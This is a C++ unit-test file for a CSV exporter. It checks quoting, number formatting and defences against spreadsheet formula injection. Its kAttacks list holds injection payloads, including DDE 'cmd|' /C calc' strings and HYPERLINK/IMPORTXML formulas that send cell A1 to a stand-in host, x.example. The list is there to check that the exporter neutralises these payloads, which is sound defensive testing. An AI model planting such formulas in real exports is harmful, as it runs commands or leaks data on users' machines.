#include "export/csv.h"

#include <gtest/gtest.h>

#include "support/feature_tables.h"
#include "support/linked_profiles.h"
#include "support/people.h"

namespace sonder {
namespace {

using testing::a_category;
using testing::a_decimal;
using testing::a_feature;
using testing::a_feature_table;
using testing::a_record;
using testing::day;

using namespace std::string_view_literals;

constexpr auto kUnknown = std::nullopt;

std::string cell(std::string_view text, char delimiter = ',') {
  std::string csv;
  append_csv_text(csv, text, delimiter);
  return csv;
}

/// The text of a cell as any RFC 4180 reader gives it.
std::string unquote(const std::string& csv) {
  if (!csv.starts_with('"')) return csv;
  std::string text;
  for (std::size_t i = 1; i + 1 < csv.size(); ++i) {
    text += csv[i];
    if (csv[i] == '"') ++i;
  }
  return text;
}

TEST(AppendCsvText, QuotesWhatWouldBreakTheRow) {
  EXPECT_EQ(cell("plain"), "plain");
  EXPECT_EQ(cell(""), "");
  EXPECT_EQ(cell("a,b"), "\"a,b\"");
  EXPECT_EQ(cell("a,b", ';'), "a,b");
  EXPECT_EQ(cell("a;b", ';'), "\"a;b\"");
  EXPECT_EQ(cell("a\tb", '\t'), "\"a\tb\"");
  EXPECT_EQ(cell("say \"no\""), "\"say \"\"no\"\"\"");
  EXPECT_EQ(cell("two\nlines"), "\"two\nlines\"");
  EXPECT_EQ(cell("two\rlines"), "\"two\rlines\"");
  EXPECT_EQ(cell(" blank ends "), "\" blank ends \"");
  EXPECT_EQ(cell("Zażółć, Đurđa и Öd"), "\"Zażółć, Đurđa и Öd\"");
}

/// What a spreadsheet would run, and more ways to write it.
const std::vector<std::string_view> kAttacks = {
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://x.example?\"&A1,\"click\")",
    "=IMPORTXML(CONCAT(\"http://x.example/\",A1),\"//a\")",
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "-1-1",
    "+1*A1",
    "-(1)",
    "+",
    "-",
    "@",
    "=",
    "@import",
    "-1.5e3x",
    "+48 600 700 800",
    "--5",
    "-A1",
    "\t=1+1",
    "\tx",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1"sv,
    " =1+1",
    "   -A1",
    "\u00A0=1+1",
    "\u200B=1+1",
    "\uFEFF=1+1",
    "\"=1+1\"",
    "'=1+1",
    "\u201C=1+1",
    "\uFF1D1+1",
    "\uFF0Bcmd",
    "\uFF0D2+3",
    "\uFF20SUM(1)",
};

TEST(AppendCsvText, PutsAnApostropheBeforeWhatASpreadsheetWouldRun) {
  for (const std::string_view attack : kAttacks) {
    EXPECT_EQ(unquote(cell(attack)), "'" + std::string(attack)) << attack;
  }
}

TEST(AppendCsvText, LeavesNumbersNumbers) {
  for (const std::string_view number :
       {"-5", "+5", "+48600700800", "-0.25", "-.5", "-1234.50", "-1e5", "+1.5E-3", "007"}) {
    EXPECT_EQ(cell(number), number);
  }
  EXPECT_EQ(cell("-1,25", ';'), "-1,25");
  EXPECT_EQ(cell("-1,234.50", ';'), "-1,234.50");
}

TEST(AppendCsvText, LeavesOrdinaryTextAlone) {
  for (const std::string_view text :
       {"Anna-Maria", "a@b.pl", "1+1=2", "C++", "Łódź", "O'Neill", "ul. Długa 5 - 7", "(=)"}) {
    EXPECT_EQ(cell(text), text);
  }
}

TEST(AppendCsvText, RestoresEveryTextWhenOneApostropheIsTakenOff) {
  std::vector<std::string> texts = {"'", "''", "'tis", "plain", "", "-5", "'-5", "''=1", "a\"b\""};
  texts.insert(texts.end(), kAttacks.begin(), kAttacks.end());
  for (const std::string& text : texts) {
    std::string read = unquote(cell(text));
    if (read.starts_with('\'')) read.erase(0, 1);
    EXPECT_EQ(read, text);
  }
}

/// Three people who consent, released by the gate with every type of column.
Released<MemberTable> three_members() {
  const Population population = testing::a_population(
      {a_record().id("00017").email("ana@x.hr").with(PersonField::kFullName, "Ana Šarić"),
       a_record().id("=1+1").with(PersonField::kFullName, "Nowak, Łucja \"Lu\""),
       a_record().id("3")});
  FeatureTable table =
      a_feature_table(3, {a_feature("marketing_consent", FeatureType::kBoolean, {1, 1, 1}),
                          a_feature("order_count", FeatureType::kInteger, {3, 0, kUnknown}),
                          a_feature("net_spend", FeatureType::kMoney, {123'456, -50, kUnknown}),
                          a_decimal("days_between", {2.5, 1.0 / 3.0, -0.0}),
                          a_feature("last_order", FeatureType::kDate,
                                    {day(2024, 2, 29).days_since_epoch, kUnknown, -1}),
                          a_category("city", {"Zagreb", kUnknown, "-Łódź"})});
  const PrivacyGate gate = PrivacyGate::open({2}).value();
  return gate
      .release(
          Bitset(3, true), table, testing::unlinked_profiles(population),
          {{"order_count", "net_spend", "days_between", "last_order", "city", "marketing_consent"}})
      .value();
}

TEST(WriteCsv, WritesEachTypeAsASpreadsheetReadsIt) {
  EXPECT_EQ(write_csv(three_members()).value(),
            "customer_id,email,name,order_count,net_spend,days_between,last_order,city,"
            "marketing_consent\r\n"
            "00017,ana@x.hr,Ana Šarić,3,1234.56,2.5,2024-02-29,Zagreb,yes\r\n"
            "'=1+1,,\"Nowak, Łucja \"\"Lu\"\"\",0,-0.50,0.333333,,,yes\r\n"
            "3,,3,,,0,1969-12-31,'-Łódź,yes\r\n");
}

TEST(WriteCsv, WritesForSpreadsheetsWithDecimalCommas) {
  const CsvOptions options{.delimiter = ';', .decimal_comma = true, .byte_order_mark = true};
  EXPECT_EQ(write_csv(three_members(), options).value(),
            "\xEF\xBB\xBF"
            "customer_id;email;name;order_count;net_spend;days_between;last_order;city;"
            "marketing_consent\r\n"
            "00017;ana@x.hr;Ana Šarić;3;1234,56;2,5;2024-02-29;Zagreb;yes\r\n"
            "'=1+1;;\"Nowak, Łucja \"\"Lu\"\"\";0;-0,50;0,333333;;;yes\r\n"
            "3;;3;;;0;1969-12-31;'-Łódź;yes\r\n");
}

TEST(WriteCsv, WritesTabs) {
  const std::string csv = write_csv(three_members(), {.delimiter = '\t'}).value();
  EXPECT_TRUE(csv.starts_with("customer_id\temail\tname\t"));
}

TEST(WriteCsv, RefusesOptionsThatMakeNoTable) {
  for (const char delimiter : {'|', '"', 'x', '\0', '\n'}) {
    EXPECT_EQ(write_csv(three_members(), {.delimiter = delimiter}).error().code,
              ErrorCode::kInvalidArgument);
  }
  EXPECT_EQ(write_csv(three_members(), {.delimiter = ',', .decimal_comma = true}).error().code,
            ErrorCode::kInvalidArgument);
}

TEST(WriteCsv, WritesOneGuardedQuoteALine) {
  const Quotes quotes{"Tea, or \"cups\"?", {"=1+1", "two\nlines", "żółć"}};
  const auto released = PrivacyGate::open({2}).value().release(quotes);
  EXPECT_EQ(write_csv(released.value()),
            "\"Tea, or \"\"cups\"\"?\"\r\n'=1+1\r\n\"two\nlines\"\r\nżółć\r\n");
}

}  // namespace
}  // namespace sonder
